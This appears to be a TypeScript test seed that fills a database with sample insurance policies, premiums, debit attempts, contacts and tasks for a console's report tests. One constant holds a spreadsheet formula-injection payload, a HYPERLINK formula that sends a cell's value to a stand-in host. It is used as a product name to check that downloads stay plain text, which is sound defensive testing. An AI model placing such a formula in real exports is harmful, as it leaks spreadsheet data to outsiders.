import type { Knex } from 'knex';
import { addDays, shanghaiDate, shanghaiInstant } from '../../domain/civil-date';
import { firstDayOf, monthOf } from '../../domain/months';
import { appendAudit } from '../../db/repositories/audit';
import { consolePerson } from './console';
import { seedReportOrganisation } from './report-organisation';

/**
 * What the console's reports tests count over (test/console/reports.test.ts, reports-browser.test.ts),
 * on test/support/report-organisation.ts. January 2026 and this month:
 *
 * | policy | product | branch | agent | due        | fen    | what happened                          |
 * | R01    | WL20    | 3201   | A001  | 2026-01-05 | 100000 | debit ICBC attempt 1 ok, paid 01-05    |
 * | R02    | EVIL    | 3201   | A001  | 2026-01-10 | 200000 | debit CCB attempt 1 failed; counter 02-03 |
 * | R03    | WL20    | 3202   | A002  | 2026-01-20 | 300000 | paid 01-25, reversed 01-28; lapsed 03-22 (reason 8) |
 * | R04    | WL20    | 3201   | A001  | 1st of this month | 50000 | attempt 1 failed, attempt 2 ok; SMS delivered, phone pending; open tasks made today and 5 days ago |
 * | R05    | WL20    | 3202   | A002  | 1st of this month | 70000 | unpaid; an open task made 20 days ago |
 *
 * Product EVIL is named like a formula, so the downloads must keep it text.
 */
const at = (date: string, time = '00:00') => new Date(shanghaiInstant(date, time));
export const EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"查看")';

/** The rows above and three people: ops-lead (no scope), lead-t1 (team lead of T1), collector (no report role). */
export async function seedReportsConsole(db: Knex): Promise<void> {
  const customer = await seedReportOrganisation(db);
  await db('products').insert({ code: 'EVIL', name: EVIL_NAME, grace_days: 60 });
  const policies = [
    ['R01', 'WL20', '3201', 'A001'],
    ['R02', 'EVIL', '3201', 'A001'],
    ['R03', 'WL20', '3202', 'A002'],
  ] as const;
  await db('policies').insert(
    policies.map(([no, product, branch, agent]) => ({ policy_no: no, product_code: product, branch_code: branch, channel: 'agency', agent_code: agent, holder_customer_id: customer, issue_date: '2020-01-01', payment_frequency: 'annual', premium_fen: 1, next_installment_no: 3, status: 'in_force' })),
  );
  const ids = new Map<string, number>();
  for (const [no, due, fen, status] of [
    ['R01', '2026-01-05', 100000, 'paid'],
    ['R02', '2026-01-10', 200000, 'paid'],
    ['R03', '2026-01-20', 300000, 'due'],
  ] as const) {
    const [row] = await db('premium_dues').insert({ policy_no: no, due_date: due, installment_no: 2, amount_fen: fen, status }).returning<{ id: number }[]>('id');
    ids.set(no, row!.id);
  }
  await db('payments').insert([
    { premium_due_id: ids.get('R01'), amount_fen: 100000, via: 'debit', reference: 'REF1', received_at: at('2026-01-05', '10:00') },
    { premium_due_id: ids.get('R02'), amount_fen: 200000, via: 'counter', reference: 'REF2', received_at: at('2026-02-03', '10:00') },
    { premium_due_id: ids.get('R03'), amount_fen: 300000, via: 'debit', reference: 'REF3', received_at: at('2026-01-25', '10:00'), reversed_at: at('2026-01-28', '09:00'), reversal_reason: 'REFUSED_BY_DEBTOR' },
  ]);
  const attempt = (no: string, bank: string, date: string, status: string, resolved: Date, reason: string | null) => ({
    premium_due_id: ids.get(no),
    attempt_no: 1,
    idempotency_key: `RNW${ids.get(no)}A1`,
    bank_code: bank,
    amount_fen: no === 'R01' ? 100000 : 200000,
    collection_date: date,
    status,
    reason,
    resolved_at: resolved,
    workflow_id: `renewal-${no}`,
    run_id: 'r',
    activity_id: 'a',
  });
  await db('debit_attempts').insert([attempt('R01', 'ICBC', '2026-01-05', 'succeeded', at('2026-01-05', '10:00'), null), attempt('R02', 'CCB', '2026-01-10', 'failed', at('2026-01-10', '11:00'), 'INSUFFICIENT_FUNDS')]);

  // R03 lapses on 2026-03-22 for a temporary financial difficulty (non-payment reason 8).
  await appendAudit(db, { kind: 'policy_suspended', actor: 'test', policyNo: 'R03', dueDate: '2026-01-20', occurredAt: at('2026-03-22'), detail: { nonPaymentReason: 8 } });

  await seedThisMonth(db, customer);
  await consolePerson(db, 'ops-lead', ['operations_lead']);
  await consolePerson(db, 'lead-t1', ['team_lead'], [{ kind: 'team', value: 'T1' }]);
  await consolePerson(db, 'collector', ['collector']);
}


/** This month's premiums, debits, contacts and open tasks, for the home page's charts. */
async function seedThisMonth(db: Knex, customer: number): Promise<void> {
  const today = shanghaiDate(Date.now());
  const thisMonth = monthOf(today);
  const first = firstDayOf(thisMonth);
  await db('policies').insert(
    (
      [
        ['R04', '3201', 'A001'],
        ['R05', '3202', 'A002'],
      ] as const
    ).map(([no, branch, agent]) => ({ policy_no: no, product_code: 'WL20', branch_code: branch, channel: 'agency', agent_code: agent, holder_customer_id: customer, issue_date: '2020-01-01', payment_frequency: 'annual', premium_fen: 1, next_installment_no: 3, status: 'in_force' })),
  );
  const [r04] = await db('premium_dues').insert({ policy_no: 'R04', due_date: first, installment_no: 2, amount_fen: 50000, status: 'paid' }).returning<{ id: number }[]>('id');
  await db('premium_dues').insert({ policy_no: 'R05', due_date: first, installment_no: 2, amount_fen: 70000, status: 'due' });
  const debit = (no: number, status: string, reason: string | null) => ({
    premium_due_id: r04!.id, attempt_no: no, idempotency_key: `RNW${r04!.id}A${no}`, bank_code: 'ICBC', amount_fen: 50000, collection_date: first, status, reason,
    resolved_at: at(first, `0${no}:00`), workflow_id: 'renewal-R04', run_id: 'r', activity_id: 'a',
  });
  await db('debit_attempts').insert([debit(1, 'failed', 'INSUFFICIENT_FUNDS'), debit(2, 'succeeded', null)]);
  await db('payments').insert({ premium_due_id: r04!.id, amount_fen: 50000, via: 'debit', reference: 'REF4', received_at: at(first, '02:00') });
  const contact = (n: number, channel: string, status: string) => ({
    id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`, policy_no: 'R04', due_date: first, step: `step${n}`, channel, status, workflow_id: 'renewal-R04', run_id: 'r', activity_id: 'a', planned_at: at(first, '00:30'),
  });
  await db('contact_attempts').insert([contact(1, 'sms', 'delivered'), contact(2, 'phone', 'pending')]);
  const task = (policy: string, step: string, daysAgo: number) => ({
    kind: 'call', step, policy_no: policy, due_date: first, assignee_role: 'agent', due_at: new Date(), status: 'open', workflow_id: `renewal-${policy}`, run_id: 'r', activity_id: step,
    created_at: new Date(shanghaiInstant(addDays(today, -daysAgo), '12:00')),
  });
  await db('tasks').insert([task('R04', 'call_1', 0), task('R04', 'call_2', 5), task('R05', 'call_1', 20)]);
}
